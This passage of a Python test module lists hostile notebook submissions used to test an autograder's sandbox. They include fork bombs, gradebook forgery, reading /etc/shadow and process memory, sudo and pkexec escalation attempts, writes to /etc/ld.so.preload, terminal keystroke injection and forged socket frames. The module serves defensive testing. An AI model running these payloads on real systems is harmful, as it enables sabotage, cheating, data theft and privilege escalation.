"""Hostile submissions. Each starts from the blank exercise, so that every point it gets is unearned.

`CLASSIC` are attacks on any autograder; `AIMED` are attacks on this one: its fork server, its frames, its probes, its
intake. ``{course}`` in code stands for the path of the course, which the attackers are told.
"""

import copy
import json
import os
from collections.abc import Callable
from dataclasses import dataclass

from tests.grader.attacks.course import EXERCISE, answer_cells, test_cells

# an attack is data, with its code in one string, however long
# fmt: off


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Parameters
    ----------
    name, what : str
    code : str
        For the first answer cell.
    answers : tuple of str
        For the answer cells in order, instead of `code`.
    edit : callable
        ``edit(notebook) -> notebook``.
    folder : callable
        ``folder(path, notebook)`` writes the whole submission itself.
    """

    name: str
    what: str
    code: str = ""
    answers: tuple = ()
    edit: Callable | None = None
    folder: Callable | None = None


CLASSIC, AIMED = [], []


def _add(group, name, what, code="", **more):
    group.append(Attack(name, what, code, **more))


def _classic(name, what, code="", **more):
    _add(CLASSIC, name, what, code, **more)


def _aimed(name, what, code="", **more):
    _add(AIMED, name, what, code, **more)


def _three(template):
    """The same answer for all three questions."""
    headers = (("mse", "a, b"), ("design", "x, d"), ("var", "x"))
    return tuple(template.replace("NAME", name).replace("ARGUMENTS", arguments) for name, arguments in headers)


def _write(path, notebook):
    (path / f"{EXERCISE}.ipynb").write_text(json.dumps(notebook))


# ------------------------------------------------------------------------------------------ stopping the grader

_classic("loop", "infinite loop", "while True: pass")
_classic("loop_sigint", "infinite loop that ignores interrupts",
         "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass")
_classic("loop_everycell", "every later cell loops too",
         "def hang(*_):\n    while True: pass\nget_ipython().events.register('pre_run_cell', hang)")
_classic("forkbomb", "fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass")
_classic("memory", "takes all memory", "hoard = []\nwhile True: hoard.append(bytearray(20_000_000))")
_classic("exit0", "ends the process", "import os; os._exit(0)")
_classic("sysexit", "ends the process inside an answer", answers=_three("def NAME(ARGUMENTS):\n    import sys; sys.exit(0)"))
_classic("killkernel", "kills its process group", "import os, signal\nos.killpg(0, signal.SIGKILL)")
_classic("killparent", "kills its parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")
_classic("stdout100mb", "100 MB of output", "for _ in range(1000): print('x' * 100_000)")
_classic("manylines", "a million lines", "print('y\\n' * 1_000_000)")
_classic("bigdisk", "fills the disk", "with open('fill', 'wb') as f:\n    for _ in range(500): f.write(bytes(1_000_000))")

# ------------------------------------------------------------------------------------------- forging the grade

_DATABASE = (
    "import sqlite3, os, glob\n"
    "found = [p for p in ['{course}/classroom/gradebook.db', *glob.glob('/*/*/gradebook.db'), *glob.glob('/tmp/**/gradebook.db', recursive=True)] if os.path.exists(p)]\n"
    "print('FOUND', found)\ndb = sqlite3.connect(found[0])\n"
)
_classic("db_self", "gives itself points in the gradebook", _DATABASE + "db.execute(\"update grade set score=100\"); db.commit()")
_classic("db_max", "gives itself extra credit", _DATABASE + "db.execute('insert into grade values (\"m\", 50)'); db.commit()")
_classic("db_others", "takes everybody's points away", _DATABASE + "db.execute('update grade set score=0'); db.commit()")
_classic("db_delete", "deletes the gradebook", "import os\nos.remove('{course}/classroom/gradebook.db')")
_classic("daemon_db", "leaves a process behind that rewrites the gradebook later",
         "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import time; time.sleep(1); open('{course}/classroom/gradebook.db', 'w').write('gone')\"], start_new_session=True)")
_classic("read_hidden", "prints hidden tests beside the notebook", "import glob\nfor f in glob.glob('**/*', recursive=True): print(f, open(f).read())")
_classic("read_hidden_db", "prints the gradebook", "print(open('{course}/classroom/gradebook.db').read())")
_classic("run_reference", "runs the reference solution found on disk",
         "exec(open('{course}/solutions/reference.py').read())")
_classic("read_other", "runs another learner's submission",
         "import json\nfor c in json.load(open('{course}/classroom/submitted/honest-0/01-attacked/01-attacked.ipynb'))['cells']:\n    if c['cell_type'] == 'code': exec(''.join(c['source']))")
_classic("ast_strip", "removes asserts from later cells",
         "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass()\nget_ipython().ast_transformers.append(T())")
_classic("input_strip", "blanks later cells", "get_ipython().input_transformers_cleanup.append(lambda lines: [])")
_classic("runcell_patch", "every cell succeeds",
         "from IPython.core.interactiveshell import ExecutionResult\nip = get_ipython()\nip.run_cell = lambda *a, **k: ExecutionResult(None)")
_classic("doexecute_patch", "the kernel always says ok",
         "ip = get_ipython()\nip.run_cell_async = lambda *a, **k: None\nip.kernel.do_execute = lambda *a, **k: dict(status='ok')")
_classic("showtraceback", "hides tracebacks", "get_ipython().showtraceback = lambda *a, **k: None\n1 / 0")
_classic("displayhook", "publishes a score as a result",
         answers=_three("def NAME(ARGUMENTS):\n    get_ipython().displayhook(6.0)\n    return 6.0\nNAME(1, 2) if 'NAME' != 'var' else NAME(1)"))
_classic("displayhook_nan", "publishes NaN as a score",
         answers=_three("def NAME(ARGUMENTS):\n    get_ipython().displayhook(float('nan'))\n    return float('nan')"))
_classic("eqobject", "returns an object equal to everything",
         answers=_three("class Any(float):\n    shape = (5, 4)\n    def __eq__(s, o): return True\n    def __ne__(s, o): return False\n    def __hash__(s): return 0\n    __lt__ = __le__ = __eq__\n    def __sub__(s, o): return s\n    def __abs__(s): return s\n    def __array__(s, *a, **k): return np.ones((5, 4))\ndef NAME(ARGUMENTS): return Any()"))
_classic("patch_numpy_testing", "replaces numpy.testing",
         "np.testing.assert_allclose = lambda *a, **k: None\nnp.allclose = np.isclose = lambda *a, **k: True\ndef mse(a, b): return 0")
_classic("patch_abs", "replaces built-ins of the comparison",
         "import builtins, math\nbuiltins.abs = lambda *a: 0\nmath.isclose = lambda *a, **k: True\nbuiltins.AssertionError = ValueError\ndef mse(a, b): return 0")

# ----------------------------------------------------------------------------------------- editing the notebook


def _edit_tests(change):
    def edit(notebook):
        for cell in test_cells(notebook):
            change(cell)
        return notebook

    return edit


def _without_tests(notebook):
    tests = test_cells(notebook)
    return {**notebook, "cells": [cell for cell in notebook["cells"] if cell not in tests]}


def _copies(notebook):
    for cell in test_cells(notebook):
        notebook["cells"].append({**copy.deepcopy(cell), "source": "pass"})
    return notebook


def _retype(kind):
    def change(cell):
        cell["cell_type"] = kind
        cell.pop("outputs"), cell.pop("execution_count")

    return change


def _reorder(notebook):
    tests = test_cells(notebook)
    return {**notebook, "cells": tests + [cell for cell in notebook["cells"] if cell not in tests]}


_classic("edit_locked", "empties the tests", edit=_edit_tests(lambda cell: cell.update(source="pass")))
_classic("delete_tests", "deletes the tests", edit=_without_tests)
_classic("strip_meta", "takes the tests' metadata away", edit=_edit_tests(lambda cell: cell["metadata"].clear()))
_classic("points", "100 points a test", edit=_edit_tests(lambda cell: cell["metadata"]["nbgrader"].update(points=100)))
_classic("gradeid_rename", "renames the tests", edit=_edit_tests(lambda cell: cell["metadata"]["nbgrader"].update(grade_id="x")))
_classic("gradeid_swap", "copies of the tests that do nothing", edit=_copies)
_classic("not_grade", "grade: false", edit=_edit_tests(lambda cell: cell["metadata"]["nbgrader"].update(grade=False)))
_classic("as_solution", "solution: true", edit=_edit_tests(lambda cell: cell["metadata"]["nbgrader"].update(solution=True)))
_classic("skip_tag", "tags that skip execution", edit=_edit_tests(lambda cell: cell["metadata"].update(tags=["skip-execution"])))
_classic("to_markdown", "tests as text", edit=_edit_tests(_retype("markdown")))
_classic("to_raw", "tests as raw cells", edit=_edit_tests(_retype("raw")))
_classic("meta_garbage", "metadata of another type", edit=_edit_tests(lambda cell: cell["metadata"].update(nbgrader="boo")))
_classic("reorder", "tests before the answers", edit=_reorder)
_classic("kernelspec", "another kernel", edit=lambda nb: {**nb, "metadata": {"kernelspec": {"name": "evil", "language": "bash"}}})

# --------------------------------------------------------------------------------------------- breaking the reader


def _file(content, name=f"{EXERCISE}.ipynb"):
    def write(path, _):
        (path / name).write_bytes(content if isinstance(content, bytes) else content.encode())

    return write


def _changed(**fields):
    return lambda notebook: {**notebook, **fields}


def _renamed(path, notebook):
    (path / "my homework (1).ipynb").write_text(json.dumps(notebook))


def _beside(name, content):
    def write(path, notebook):
        (path / name).write_text(content)
        _write(path, notebook)

    return write


def _huge_file(path, notebook):
    with open(path / "data.bin", "wb") as file:
        file.truncate(200_000_000)
    _write(path, notebook)


def _links(path, notebook):
    os.symlink("/etc/passwd", path / "notes.txt")
    os.symlink("../../../gradebook.db", path / "db.txt")
    _write(path, notebook)


_OLD = {
    "nbformat": 3,
    "nbformat_minor": 0,
    "metadata": {"name": ""},
    "worksheets": [{"cells": [{"cell_type": "code", "input": "pass", "outputs": [], "metadata": {}}]}],
}
_classic("malformed", "half a notebook", folder=_file('{"cells": [ {"cell_type": "code", '))
_classic("empty", "an empty file", folder=_file(""))
_classic("nbformat99", "format 99", edit=_changed(nbformat=99))
_classic("nbformat3", "format 3", folder=_file(json.dumps(_OLD)))
_classic("renamed", "another file name", folder=_renamed)
_classic("hugefile", "200 MB beside the notebook", folder=_huge_file)
_classic("symlink_passwd", "links to files of the machine", folder=_links)
_classic("symlink_nb", "the notebook is a link to another learner's",
         folder=lambda path, _: os.symlink(f"../../honest-0/{EXERCISE}/{EXERCISE}.ipynb", path / f"{EXERCISE}.ipynb"))
_classic("bad_timestamp", "a time that is none", folder=_beside("timestamp.txt", "yesterday, honest"))


def _shadow(path, notebook):
    (path / "numpy.py").write_text("def __getattr__(name): return lambda *a, **k: 0\n")
    (path / "holdout.py").write_text("def check(*a): return True\n")
    answer_cells(notebook)[0]["source"] = "import numpy as np\ndef mse(a, b): return np.mean()"
    _write(path, notebook)


_classic("shadow_helper", "its own numpy.py", folder=_shadow)

# --------------------------------------------------------------------------------------------------- reaching out

_classic("html_js", "scripts in text and output",
         "from IPython.display import HTML, Javascript, display\ndisplay(HTML('<script>alert(1)</script>'))\ndisplay(Javascript('alert(2)'))")
_classic("network", "connects to this machine",
         "import socket\nfor host in ('127.0.0.1', 'localhost', '::1'):\n    try: socket.create_connection((host, 8765), 1).sendall(b'leak')\n    except OSError as e: print(e)\nassert False")
_classic("write_outside", "defaces other submissions and the reference",
         "import glob\nfor f in ['{course}/classroom/submitted/honest-0/01-attacked/01-attacked.ipynb', '{course}/solutions/reference.py', *glob.glob('/tmp/**', recursive=True), *glob.glob('/course/**', recursive=True)]:\n    try: open(f, 'a').write('defaced'); print('WROTE', f)\n    except OSError as e: pass")
_classic("env_leak", "reads environments",
         "import os\nprint(dict(os.environ))\nfor p in os.listdir('/proc'):\n    try: print(open(f'/proc/{p}/environ').read())\n    except OSError: pass")
_classic("ast_adaptive", "strips asserts only while its own function is bound",
         "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass() if getattr(get_ipython().user_ns.get('mse'), 'mine', 0) else n\nget_ipython().ast_transformers.append(T())\ndef mse(a, b): return 0\nmse.mine = 1")

# ================================================================================== aimed: the frames and the socket

_SOCKET = """
import os, stat, struct, json, threading, time, sys, gc
def sockets():
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): found.append(fd)
        except OSError: pass
    return found
def frame(message):
    body = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack('>I', len(body)) + body
def worker():
    return next(o for o in gc.get_objects() if type(o).__name__ == 'Worker' and hasattr(o, 'output_sender'))
def send(data):
    for fd in sockets():
        view = memoryview(data)
        while view: view = view[os.write(fd, view):]
"""
_aimed("forge_answers", "sends answers before anybody asks", _SOCKET + "for _ in range(6): send(frame({'token': '0' * 16, 'result': {'value': 0.0}}))")
_aimed("forge_with_token", "steals the token of each request and answers first",
       _SOCKET + "def spy():\n    while True:\n        for f in list(sys._current_frames().values()):\n            while f:\n                r = f.f_locals.get('request')\n                if isinstance(r, dict) and r.get('do') == 'probe':\n                    send(frame({'token': r['token'], 'result': {'value': 1.0}}))\n                f = f.f_back\nthreading.Thread(target=spy, daemon=True).start()\ndef mse(a, b): time.sleep(.05); return 0.0\ndef var(x): time.sleep(.05); return 0.0")
_aimed("forge_outcome", "calls itself graded", _SOCKET + "t = worker().output_sender.token\nsend(frame({'token': t, 'done': True, 'succeeded': True, 'points': 6, 'score': 6, 'outcome': 'done'}))")
_aimed("huge_frame", "a frame of 4 GB", _SOCKET + "send(struct.pack('>I', 0xFFFFFFFF))\nwhile True: send(bytes(1 << 20))")
_aimed("huge_json", "50 MB as one answer", _SOCKET + "t = worker().output_sender.token\nsend(frame({'token': t, 'output': {'output_type': 'stream', 'name': 'stdout', 'text': 'x' * 50_000_000}}))")
_aimed("half_frame", "a header and no body", _SOCKET + "send(struct.pack('>I', 1000))\ntime.sleep(60)")
_aimed("trickle", "one byte at a time", _SOCKET + "send(struct.pack('>I', 100_000))\nwhile True:\n    send(b' '); time.sleep(.05)")
_aimed("deep_json", "JSON nested 100,000 deep", _SOCKET + "send(frame(b'[' * 100_000 + b']' * 100_000))")
_aimed("deep_json_object", "an object nested 5,000 deep", _SOCKET + "send(frame(b'{\"a\":' * 5_000 + b'1' + b'}' * 5_000))")
_aimed("many_lists", "a million empty lists", _SOCKET + "send(frame(b'{\"a\":[' + b','.join([b'[]'] * 1_000_000) + b']}'))")
_aimed("nan_json", "NaN and Infinity in the JSON", _SOCKET + "t = worker().output_sender.token\nsend(frame(b'{\"token\": \"' + t.encode() + b'\", \"output\": NaN, \"x\": Infinity}'))")
_aimed("huge_number", "a number of a million digits", _SOCKET + "send(frame(b'{\"a\": ' + b'9' * 1_000_000 + b'}'))")
_aimed("not_utf8", "bytes that are no text", _SOCKET + "send(frame(b'\\xff\\xfe\\x00' * 1000))")
_aimed("not_an_object", "a list instead of an answer", _SOCKET + "send(frame(b'[1, 2, 3]'))")
_aimed("strange_output", "outputs of unknown kinds and types", _SOCKET + "t = worker().output_sender.token\nfor o in ({'output_type': 'pickle', 'data': 'x'}, {'output_type': 'stream', 'name': ['stdout'], 'text': 5}, None):\n    send(frame({'token': t, 'output': o}))")
_aimed("surrogates", "text that no file can hold", "print('\\ud800' * 10)\nraise ValueError('\\udfff \\ud800')")
_aimed("flood_outputs", "outputs without end past the worker's own limit", _SOCKET + "t = worker().output_sender.token\nwhile True: send(frame({'token': t, 'output': {'output_type': 'display_data', 'data': {'text/plain': 'x' * 1000}}}))")
_aimed("flood_tiny", "a million tiny outputs", _SOCKET + "t = worker().output_sender.token\nwhile True: send(frame({'token': t, 'output': {'output_type': 'error', 'ename': '', 'evalue': '', 'traceback': []}}))")
_aimed("close_descriptors", "closes every descriptor", "import os\nos.closerange(0, 256)")
_aimed("exchange_descriptors", "puts its own socket in place of the connection",
       _SOCKET + "import socket\na, b = socket.socketpair()\nfor fd in sockets():\n    if fd not in (a.fileno(), b.fileno()): os.dup2(a.fileno(), fd)\ntime.sleep(30)")
_aimed("shutdown_socket", "shuts the connection down and keeps running", _SOCKET + "import socket\nfor fd in sockets(): socket.socket(fileno=os.dup(fd)).shutdown(2)\nwhile True: pass")
_aimed("daemon_keeps_socket", "a grandchild keeps the connection open after the end",
       "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(1000)\n    os._exit(0)\nos._exit(0)")
_aimed("leak_inputs", "sends the hidden inputs out as an output while it is probed",
       _SOCKET + "w = worker()\ndef mse(a, b):\n    f = sys._getframe()\n    while f and 'request' not in f.f_locals: f = f.f_back\n    send(frame({'token': f.f_locals['request']['token'], 'output': {'output_type': 'stream', 'name': 'stdout', 'text': repr((a, b))}}))\n    return 0.0")

# ==================================================================================== aimed: the server and the isolation

_LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\ndef call(*a):\n    r = libc.syscall(*a); print(a[0], r, os.strerror(ctypes.get_errno())); return r\n"
_aimed("signal_everybody", "signals to every number", "import os\nfor p in [*range(2, 5000), -1]:\n    for s in (19, 15, 9):\n        try: os.kill(p, s)\n        except OSError: pass\nassert False")
_aimed("stop_itself", "stops its own process", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.fork() or os.kill(os.getpid(), signal.SIGSTOP)\nwhile True: pass")
_aimed("ptrace_others", "traces what it can see", _LIBC + "for p in range(0, 200):\n    call(101, 16, p, 0, 0)")
_aimed("read_memory", "reads the memory of others", "for p in range(0, 300):\n    for f in ('mem', 'maps', 'environ', 'root/etc/shadow', 'cwd/grader/sandbox/server.py', 'fd/3'):\n        try: print(p, f, open(f'/proc/{p}/{f}', 'rb').read(100))\n        except OSError: pass")
_aimed("process_vm", "reads memory by system call", _LIBC + "b = ctypes.create_string_buffer(4096)\nclass V(ctypes.Structure): _fields_ = [('p', ctypes.c_void_p), ('n', ctypes.c_size_t)]\nv = V(ctypes.addressof(b), 4096)\nfor p in range(1, 50): call(310, p, ctypes.byref(v), 1, ctypes.byref(v), 1, 0)")
_aimed("search_memory", "walks its own memory for secrets of the server",
       "import gc, sys\nseen = [o for o in gc.get_objects() if isinstance(o, (dict, list, tuple))]\nprint([x for o in seen for x in (o.values() if isinstance(o, dict) else o) if isinstance(x, str) and 'SENTINEL' in x][:50])\nprint(open('/proc/self/environ').read(), sys.argv, sys.orig_argv)")
_aimed("scan_raw_memory", "reads its own raw memory, which the server once had",
       "import re\nm = open('/proc/self/mem', 'rb', 0)\nfor line in open('/proc/self/maps'):\n    a, b = (int(x, 16) for x in line.split()[0].split('-'))\n    if 'rw-p' in line and b - a < 50_000_000:\n        try:\n            m.seek(a); data = m.read(b - a)\n            for hit in re.findall(rb'SENTINEL-[0-9a-f]{32}', data): print(hit)\n        except OSError: pass")
_aimed("raise_limits", "raises its own limits", "import resource\nfor n in (0, 1, 4, 6, 7, 8, 9, 11, 12):\n    try: resource.setrlimit(n, (resource.RLIM_INFINITY,) * 2); print('RAISED', n)\n    except (ValueError, OSError): pass\nx = []\nwhile True: x.append(bytearray(50_000_000))")
_aimed("new_namespaces", "makes namespaces of its own", _LIBC + "for f in (0x10000000, 0x20000, 0x20000000, 0x40000000):\n    call(272, f)\n    call(56, f | 17, 0, 0, 0, 0)\nassert False")
_aimed("mount_things", "mounts and changes root", _LIBC + "for a in ((b'proc', b'/tmp', b'proc'), (b'/', b'/tmp', None), (b'tmpfs', b'/usr', b'tmpfs')): call(165, *a, 4096, None)\ncall(161, b'/tmp'); call(155, b'/tmp', b'/tmp'); call(166, b'/proc', 2)\nprint(open('/etc/passwd').read())")
_aimed("become_root", "asks to be root", "import os, subprocess\nfor f in (os.setuid, os.setgid, os.seteuid):\n    try: f(0); print('ROOT')\n    except OSError as e: print(e)\nfor c in ('su -c id', 'sudo -n id', 'pkexec id', 'newgrp root', 'mount', 'chage -l root'):\n    print(subprocess.run(c, shell=True, capture_output=True, stdin=subprocess.DEVNULL))")
_aimed("kernel_doors", "calls that past kernel faults came through", _LIBC + "for n in (321, 323, 298, 425, 250, 248, 319, 304, 29, 135, 272, 308, 435, 240, 246, 169, 175): call(n, 0, 0, 0, 0, 0)\nassert False")
_aimed("write_kernel_settings", "writes to /proc and /sys", "for f in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/self/oom_score_adj', '/proc/1/oom_score_adj', '/sys/fs/cgroup/release_agent', '/proc/self/uid_map', '/proc/sys/kernel/hostname'):\n    try: open(f, 'w').write('-1000'); print('WROTE', f)\n    except OSError as e: print(f, e)\nassert False")
_aimed("strange_sockets", "socket families that are not shut in", "import socket\nfor family in range(0, 46):\n    for kind in (1, 2, 3, 5):\n        try:\n            s = socket.socket(family, kind); print('OPEN', family, kind)\n            if family == 40: s.connect((2, 8765)); print('CONNECTED')\n        except OSError: pass\nassert False")
_aimed("abstract_socket", "connects to an abstract socket of the machine", "import socket\ns = socket.socket(socket.AF_UNIX)\ntry: s.connect('\\0holdout-secret'); s.sendall(b'leak')\nexcept OSError as e: print(e)\ntry: s.connect('{course}/listening'); s.sendall(b'leak')\nexcept OSError as e: print(e)\nassert False")
_aimed("poison_server", "changes libraries in the hope that the next learner gets them",
       "import numpy, holdout.checks.probe, builtins, json, random\nnumpy.mean = numpy.var = lambda *a, **k: 0.0\nnumpy.vander = None\nholdout.checks.probe.run_probe = lambda *a: {'value': 0}\nbuiltins.float = lambda *a: 0\nnumpy.asarray = None")
_aimed("poison_files", "writes into libraries, caches and shared folders",
       "import numpy, os, glob, sys\nfor f in [numpy.__file__, '/course/holdout/checks/check.py', '/course/holdout/__pycache__/x', '/dev/shm/poison', '/tmp/poison', '/dev/poison', '/poison', '/usr/poison', '/tmp/server/poison', '/etc/ld.so.preload', sys.prefix + '/sitecustomize.py']:\n    try: open(f, 'a').write('import os; os._exit(1)'); print('WROTE', f)\n    except OSError as e: print(f, e)")
_aimed("find_poison", "looks for what an earlier submission left", "import os\nfor f in ('/dev/shm/poison', '/tmp/poison', '/poison', '/tmp/server/poison'):\n    if os.path.exists(f): print('LEFT', f)\nfor d in ('/tmp', '/dev/shm', '/tmp/server'):\n    try: print(os.listdir(d))\n    except OSError as e: print(e)\nassert False")
_aimed("hidden_process", "a daemon that escapes its group and session", "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n            while True: time.sleep(100)\n        os._exit(0)")
_aimed("background_shell", "starts programs in the background", "!sleep 1000 &\nimport subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True)")
_aimed("all_threads", "all the threads there are", "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(1000,)).start()")
_aimed("fork_and_hoard", "each of many processes takes memory", "import os, time\nfor _ in range(6): os.fork()\nx = bytearray(120_000_000)\ntime.sleep(60)")
_aimed("memory_files", "memory in files and segments that no process holds", _LIBC + "import mmap\nkeep = []\nfor i in range(200):\n    try:\n        f = os.memfd_create(f'm{i}'); os.write(f, bytes(20_000_000)); keep.append(f)\n    except OSError: pass\nfor i in range(200): call(29, 0, 20_000_000, 0o1600)\nfor i in range(100):\n    try:\n        with open(f'/dev/shm/{i}', 'wb') as f: f.write(bytes(20_000_000))\n    except OSError: pass\nassert False")
_aimed("all_inodes", "a million empty files", "import os\nwhile True:\n    for i in range(10**9): os.close(os.open(str(i), os.O_CREAT))")
_aimed("all_descriptors", "opens files without end", "import os\nwhile True: os.open('/dev/null', os.O_RDONLY)")
_aimed("raw_output", "floods descriptors 1 and 2", "import os\nwhile True: os.write(2, b'x' * 1_000_000)")
_aimed("terminal_input", "types into the instructor's terminal", "import os, fcntl\nfor f in ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/ptmx'):\n    try:\n        t = os.open(f, os.O_RDWR)\n        for c in b'id\\n': fcntl.ioctl(t, 0x5412, bytes([c]))\n        print('TYPED', f)\n    except OSError as e: print(f, e)\nassert False")
_aimed("first_priority", "asks for all processor time", "import os\nfor f in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))):\n    try: f(); print('FIRST')\n    except OSError as e: print(e)\nassert False")
_aimed("crash", "reads address 0", "import ctypes\nctypes.string_at(0)")
_aimed("stack_overflow", "recursion past every limit", "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()")
_aimed("uninterruptible", "a calculation in C that hears no interrupt", "x = 10 ** (10 ** 9)")
_aimed("wait_for_input", "waits for somebody to type", "input('password: ')\nimport sys; sys.stdin.read()")
_aimed("slow_cells", "every cell just below its limit, until the notebook's is reached",
       edit=lambda nb: {**nb, "cells": nb["cells"][:2] + [
           {"cell_type": "code", "id": f"s{i}", "metadata": {}, "source": "import time; time.sleep(0.6)"} for i in range(20)] + nb["cells"][2:]})

# ========================================================================================= aimed: what is left behind

_aimed("atexit_sleep", "sleeps at exit", "import atexit, time\natexit.register(lambda: time.sleep(1000))\nimport threading; threading.Thread(target=lambda: time.sleep(1000)).start()")
_aimed("del_hang", "an object that does not let itself be deleted", "class H:\n    def __del__(self):\n        while True: pass\nh = H()\ndel h")
_aimed("exit_patch", "replaces os._exit and sys.exit", "import os, sys\nos._exit = sys.exit = os.kill = lambda *a: None\nimport signal; signal.signal(signal.SIGTERM, signal.SIG_IGN)")
_aimed("write_after_end", "keeps writing between and after the cells", "import threading, sys\ndef shout():\n    while True: sys.stdout.write('x' * 1000); sys.stdout.flush()\nfor _ in range(3): threading.Thread(target=shout, daemon=True).start()")

# ============================================================================================ aimed: the probes

_aimed("patch_json", "replaces json in the worker", "import json\njson.dumps = lambda *a, **k: '{\"token\": \"\", \"result\": {\"value\": 0}}'")
_aimed("patch_codec", "replaces the encoding of results", "import holdout.checks.codec, holdout.checks.probe\nholdout.checks.codec.encode = holdout.checks.probe.encode = lambda v: 0.0\ndef mse(a, b): return 0\ndef var(x): return 0")
_aimed("patch_run_probe", "replaces the evaluation of probes", "import holdout.checks.check, holdout.checks.probe\nholdout.checks.probe.run_probe = holdout.checks.check.run_probe = lambda answer, probe, inputs: {'value': True}")
_aimed("patch_worker", "replaces the worker's methods", _SOCKET + "w = worker()\ntype(w).do_probe = lambda s, r: {'result': {'value': 1.0}, 'score': 6, 'done': True}")
_aimed("fake_module", "puts its own holdout in place", "import sys, types\nfake = types.ModuleType('holdout.checks.probe')\nfake.run_probe = lambda *a: {'value': [1, 2, 3], 'score': 1}\nsys.modules['holdout.checks.probe'] = fake")
_aimed("lying_namespace", "a namespace that gives what is wanted", "class N(dict):\n    def __contains__(s, k): return True\n    def __missing__(s, k): return lambda *a: 1.0\nget_ipython().user_ns = N()")
_aimed("audit_hook", "watches every evaluation", "import sys\ndef hook(event, args):\n    if event in ('exec', 'compile'): args and globals().__setitem__('seen', args)\nsys.addaudithook(hook)\nsys.setprofile(lambda *a: None)")
_aimed("trace_probe", "traces the probe for an expected value",
       "import sys\ndef mse(a, b):\n    f, seen = sys._getframe(), {}\n    while f: seen.update(f.f_locals); f = f.f_back\n    for k in ('expected', 'reference', 'truth', 'solution'):\n        if k in seen: return seen[k]\n    return float('nan')")
_aimed("lying_float", "a float that lies about its value", answers=_three("class F(float):\n    def __eq__(s, o): return True\n    def __float__(s): return 0.0\n    def __repr__(s): return '0'\n    def __hash__(s): return 0\n    def __reduce__(s): import os; return os.system, ('id',)\n    def __getattribute__(s, n): raise RuntimeError(n)\ndef NAME(ARGUMENTS): return F(0)"))
_aimed("lying_array", "an array that lies about its shape and values", answers=_three("class A(np.ndarray):\n    def __eq__(s, o): return True\n    shape = property(lambda s: (5, 4))\n    size = property(lambda s: 20)\n    def astype(s, *a, **k): return s\n    def tobytes(s, *a): return b''\n    def __array_finalize__(s, o): pass\ndef NAME(ARGUMENTS): return np.zeros(3).view(A)"))
_aimed("lying_class", "an object that calls itself an array", answers=_three("class L:\n    __class__ = np.ndarray\n    def __getattr__(s, n): return L()\n    def __call__(s, *a, **k): return L()\n    def __iter__(s): return iter([1])\n    def __len__(s): return 10**18\ndef NAME(ARGUMENTS): return L()"))
_aimed("hang_in_encode", "an object whose encoding never ends", answers=_three("class D(dict):\n    def items(s):\n        while True: pass\n    def __iter__(s):\n        while True: yield 'x'\nclass S(set):\n    def __iter__(s):\n        while True: yield 1\ndef NAME(ARGUMENTS): return S()"))
_aimed("hang_in_probe", "an answer that never returns", answers=_three("def NAME(ARGUMENTS):\n    while True: pass"))
_aimed("hang_hard_in_probe", "an answer that never returns and hears no interrupt", answers=_three("def NAME(ARGUMENTS):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass"))
_aimed("exit_in_probe", "ends the process when it is probed", answers=_three("def NAME(ARGUMENTS):\n    import os; os._exit(0)"))
_aimed("recursion_in_probe", "recursion when it is probed", answers=_three("def NAME(ARGUMENTS): return NAME(ARGUMENTS)"))
_aimed("huge_array", "an array of 800 MB", answers=_three("def NAME(ARGUMENTS): return np.ones(100_000_000)"))
_aimed("large_answers", "answers as large as they may be, many times", answers=_three("def NAME(ARGUMENTS): return 'x' * 900_000"))
_aimed("endless_list", "a list that contains itself", answers=_three("def NAME(ARGUMENTS):\n    x = []\n    x.append(x)\n    return x"))
_aimed("deep_answer", "a list nested 100,000 deep", answers=_three("def NAME(ARGUMENTS):\n    x = []\n    for _ in range(100_000): x = [x]\n    return x"))
_aimed("endless_generator", "an endless generator", answers=_three("def NAME(ARGUMENTS):\n    import itertools\n    return itertools.count()"))
_aimed("huge_integer", "an integer of a million digits", answers=_three("def NAME(ARGUMENTS): return 10 ** 1_000_000"))
_aimed("evil_error", "an error whose text hangs", answers=_three("class E(Exception):\n    def __str__(s):\n        while True: pass\ndef NAME(ARGUMENTS): raise E()"))
_aimed("huge_error", "an error of 100 MB", answers=_three("def NAME(ARGUMENTS): raise ValueError('x' * 100_000_000)"))
_aimed("base_exception", "raises what nobody catches", answers=_three("class B(BaseException): pass\ndef NAME(ARGUMENTS): raise B('out')"))
_aimed("raise_interrupt", "pretends to be interrupted", answers=_three("def NAME(ARGUMENTS): raise KeyboardInterrupt"))
_aimed("forged_tag", "returns the encoding of something else", answers=_three("def NAME(ARGUMENTS): return {'$': 'array', 'dtype': '<f8', 'shape': [10**9], 'v': ''}"))
_aimed("forged_result", "sends a result with a table of a billion rows", _SOCKET + "w = worker()\ntype(w).do_probe = lambda s, r: {'result': {'value': {'$': 'objects', 'dtype': 'O', 'shape': [10**9, 10**9], 'v': []}}}")
_aimed("right_by_luck", "copies the visible example", answers=_three("def NAME(ARGUMENTS): return 0.25"))
_aimed("find_checks", "reads the visible checks and their judges", "import glob, holdout\nfor f in glob.glob('/course/**/checks.json', recursive=True) + glob.glob('/work/*/*/questions.py'): print('FOUND', open(f).read()[:500])\nfrom grader.nbgrader_bridge.hidden_test import grade")

# ============================================================================================ aimed: the intake


def _hard_link(path, _):
    os.link(path.parent.parent / "bystander" / EXERCISE / f"{EXERCISE}.ipynb", path / f"{EXERCISE}.ipynb")


def _linked_folder(path, _):
    path.rmdir()
